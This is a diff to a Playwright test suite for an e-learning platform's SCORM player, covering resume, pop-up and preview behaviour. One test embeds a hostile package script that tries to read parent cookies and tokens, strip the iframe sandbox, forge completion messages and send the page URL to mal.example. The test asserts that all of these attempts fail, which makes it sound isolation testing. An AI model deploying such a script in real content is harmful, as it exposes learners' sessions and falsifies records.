@@ -1,10 +1,15 @@
 import type { Page } from '@playwright/test';
+import { FERRAMENTAS, JANELA } from './pacotes-de-ferramentas.ts';
 import { cursoComPacote, pacote } from './pacotes.ts';
 import { expect, expectAccessible, signIn, test } from './program.ts';
 
 const ALUNO = 'gestor@habilita.example';
 const tokenDe = (page: Page) =>
   page.evaluate(() => (sessionStorage.getItem('token') ?? '').replaceAll('"', ''));
+
+/** What a package shows: its frame stands in the page around it. */
+const dentro = (page: Page, titulo: string) =>
+  page.frameLocator(`iframe[title="${titulo}"]`).frameLocator('iframe[title="Conteúdo do pacote"]');
 
 /** A lesson of two pages in the words of SCORM 1.2: begins in one, ends in the other. */
 const DUAS_PAGINAS = {
@@ -29,6 +34,7 @@ const DUAS_PAGINAS = {
     </script></body></html>`,
   'dir/fim.html': `<!DOCTYPE html><title>Fim</title><p id="estado"></p><button id="concluir">Concluir</button>
     <script>
+      var API = parent.API;
       document.getElementById('estado').textContent = API.LMSGetValue('cmi.core.lesson_location');
       document.getElementById('concluir').onclick = function () {
         API.LMSSetValue('cmi.core.score.raw', '95');
@@ -55,7 +61,7 @@ test('um pacote guarda onde a pessoa parou, atravessa páginas e recargas, e inf
   const aluno = await contexto.newPage();
   await signIn(aluno, ALUNO);
   await aluno.goto(endereco);
-  const moldura = aluno.frameLocator('iframe[title="Lição interativa"]');
+  const moldura = dentro(aluno, 'Lição interativa');
   await expect(moldura.locator('#estado')).toHaveText('ab-initio||');
   const gravou = aluno.waitForResponse((resposta) => resposta.url().includes('scormProgresso'));
   await moldura.getByRole('button', { name: 'Marcar' }).click();
@@ -82,28 +88,31 @@ test('um pacote hostil não alcança a nossa página, os seus segredos nem a API
     'index.html': `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Hostil</title></head><body><pre id="saldo"></pre><script>
       var saldo = [];
       function tentar(nome, f) { try { var v = f(); saldo.push(nome + ': ' + (v === undefined || v === null || v === '' ? 'nada' : 'OBTEVE ' + v)); } catch (e) { saldo.push(nome + ': nada'); } }
-      tentar('pai', function () { return parent.document.title; });
-      tentar('topo', function () { return top.sessionStorage.length; });
-      tentar('origem', function () { return self.origin === 'null' ? '' : self.origin; });
+      tentar('topo', function () { return top.document.title; });
+      tentar('segredo', function () { return top.sessionStorage.length; });
+      tentar('origem', function () { return self.origin === new URL('PAGINA').origin ? 'a da página' : ''; });
       tentar('cookie', function () { return document.cookie; });
       tentar('armazenamento', function () { return sessionStorage.getItem('token') || localStorage.length || ''; });
       tentar('navegar', function () { top.location = 'https://mal.example/'; });
-      tentar('janela', function () { return window.open('/'); });
-      tentar('moldura', function () { parent.frames[0].frameElement.removeAttribute('sandbox'); return 'sim'; });
+      tentar('janela', function () { var w = window.open('PAGINA', 'x'); return w && w.document.title; });
+      tentar('moldura', function () { parent.frameElement.removeAttribute('sandbox'); return 'sim'; });
+      tentar('quadro', function () { var f = document.createElement('iframe'); f.src = 'PAGINA'; document.body.appendChild(f); return f.contentDocument.title; });
       function fim(nome) { return [function (r) { return r.text().then(function (t) { saldo.push(nome + ': OBTEVE ' + t); }); }, function () { saldo.push(nome + ': nada'); }]; }
-      var a = fim('api'), b = fim('fora'), c = fim('manifesto');
+      var a = fim('api'), b = fim('fora'), c = fim('documentação');
       Promise.all([
-        fetch(new URL('/api/aluno/cursos', document.URL)).then(a[0], a[1]),
+        fetch('PAGINA/api/aluno/cursos', { credentials: 'include' }).then(a[0], a[1]),
+        fetch(new URL('/api/docs/json', document.URL)).then(c[0], c[1]),
         fetch('https://mal.example/?x=' + document.URL).then(b[0], b[1]),
         fetch('dados.json').then(function (r) { return r.text(); }).then(function (t) { saldo.push('próprio: ' + t); }, function (e) { saldo.push('próprio: falhou'); })
       ]).then(function () { document.getElementById('saldo').textContent = saldo.join('\\n'); });
-      parent.postMessage({ Cmi: { 'cmi.completion_status': 'completed' }, urgente: true }, '*');
-      parent.postMessage({ tipo: 'scorm', token: 1 }, '*');
+      top.postMessage({ Cmi: { 'cmi.completion_status': 'completed' }, urgente: true }, '*');
+      top.postMessage({ tipo: 'scorm', token: 1 }, '*', [new MessageChannel().port2]);
     </script></body></html>`,
     'dados.json': '{"meu":1}',
   };
   await signIn(page, 'adm@habilita.example');
   const servico = { ...program, token: await tokenDe(page) };
+  hostil['index.html'] = hostil['index.html'].replaceAll('PAGINA', program.url);
   const bytes = pacote('2004 4th Edition', hostil);
   const endereco = await cursoComPacote(servico, {
     nome: 'Pacote hostil',
@@ -115,10 +124,87 @@ test('um pacote hostil não alcança a nossa página, os seus segredos nem a API
   const aluno = await contexto.newPage();
   await signIn(aluno, 'admaluno@habilita.example');
   await aluno.goto(endereco);
-  const saldo = aluno.frameLocator('iframe[title="Pacote hostil"]').locator('#saldo');
+  const saldo = dentro(aluno, 'Pacote hostil').locator('#saldo');
   await expect(saldo).toContainText('próprio: {"meu":1}');
   await expect(saldo).not.toContainText('OBTEVE');
   await expect(aluno).toHaveURL(/curso-aluno/);
   await expect(aluno.getByText('Aula concluída')).toHaveCount(0);
   await contexto.close();
+});
+
+test('pacotes como os das ferramentas de autoria abrem, gravam e retomam', async ({
+  page: autor,
+  program,
+  browser,
+}) => {
+  await signIn(autor, 'adm@habilita.example');
+  const servico = { ...program, token: await tokenDe(autor) };
+  const contexto = await browser.newContext({ baseURL: program.url });
+  const page = await contexto.newPage();
+  await signIn(page, ALUNO);
+  for (const { nome, versao, paginas, moldura, antes, depois } of FERRAMENTAS) {
+    const pacoteAberto = moldura ? dentro(page, nome).frameLocator(moldura) : dentro(page, nome);
+    const estado = pacoteAberto.locator('#estado');
+    await test.step(nome, async () => {
+      const bytes = pacote(versao, paginas);
+      const endereco = await cursoComPacote(servico, { nome, bytes, aluno: ALUNO });
+      const gravou = page.waitForResponse((resposta) => resposta.url().includes('scormProgresso'));
+      await page.goto(endereco);
+      await expect(estado).toHaveText(antes);
+      // Leaving tells the last of it.
+      await page.goto('/#/cursos-aluno');
+      await expect(page.getByRole('heading', { name: 'Meus cursos', level: 1 })).toBeVisible();
+      expect((await gravou).status()).toBe(200);
+      await page.goto(endereco);
+      await expect(estado).toHaveText(depois);
+    });
+  }
+  await contexto.close();
+});
+
+test('um pacote pergunta, abre a sua própria janela e grava dela', async ({
+  page: autor,
+  program,
+  browser,
+}) => {
+  await signIn(autor, 'adm@habilita.example');
+  const servico = { ...program, token: await tokenDe(autor) };
+  const contexto = await browser.newContext({ baseURL: program.url });
+  const page = await contexto.newPage();
+  await signIn(page, ALUNO);
+  const nome = 'Lição em janela';
+  await page.goto(await cursoComPacote(servico, { nome, bytes: pacote('1.2', JANELA), aluno: ALUNO }));
+  page.once('dialog', (pergunta) => void pergunta.accept());
+  const gravou = page.waitForResponse((resposta) => resposta.url().includes('scormProgresso'));
+  const [janela] = await Promise.all([
+    page.waitForEvent('popup'),
+    dentro(page, nome).getByRole('button', { name: 'Abrir o curso' }).click(),
+  ]);
+  await expect(janela.locator('#estado')).toHaveText('pronto ');
+  await expect(dentro(page, nome).locator('#estado')).toHaveText('janela aberta');
+  expect((await gravou).status()).toBe(200);
+  await contexto.close();
+});
+
+test('na prévia o autor vê se o pacote iniciou, gravou e retomou', async ({ page, program }) => {
+  const [ferramenta] = FERRAMENTAS;
+  if (!ferramenta) throw new Error('no package to try');
+  await signIn(page, 'adm@habilita.example');
+  const servico = { ...program, token: await tokenDe(page) };
+  const nome = 'Pacote em prova';
+  const bytes = pacote(ferramenta.versao, ferramenta.paginas);
+  const endereco = await cursoComPacote(servico, { nome, bytes, aluno: ALUNO });
+  const [, IdCurso = '', aula = ''] = /curso-aluno\/(\d+)\?.*(aula=\d+)/.exec(endereco) ?? [];
+  await page.goto(`/#/curso/${IdCurso}/previa?${aula}`);
+  const passos = page.getByRole('status').filter({ hasText: 'O que este pacote fez nesta prévia' });
+  await expect(passos.getByRole('listitem')).toHaveText([
+    'Iniciou',
+    'Gravou a situação',
+    'Gravou a nota',
+    /^Ainda não retomou/,
+  ]);
+  await expectAccessible(page);
+  await page.getByRole('button', { name: 'Abrir de novo, de onde parou' }).click();
+  await expect(passos.getByRole('listitem').last()).toHaveText('Retomou de onde parou');
+  await expect(dentro(page, nome).frameLocator('iframe').locator('#estado')).toHaveText(ferramenta.depois);
 });
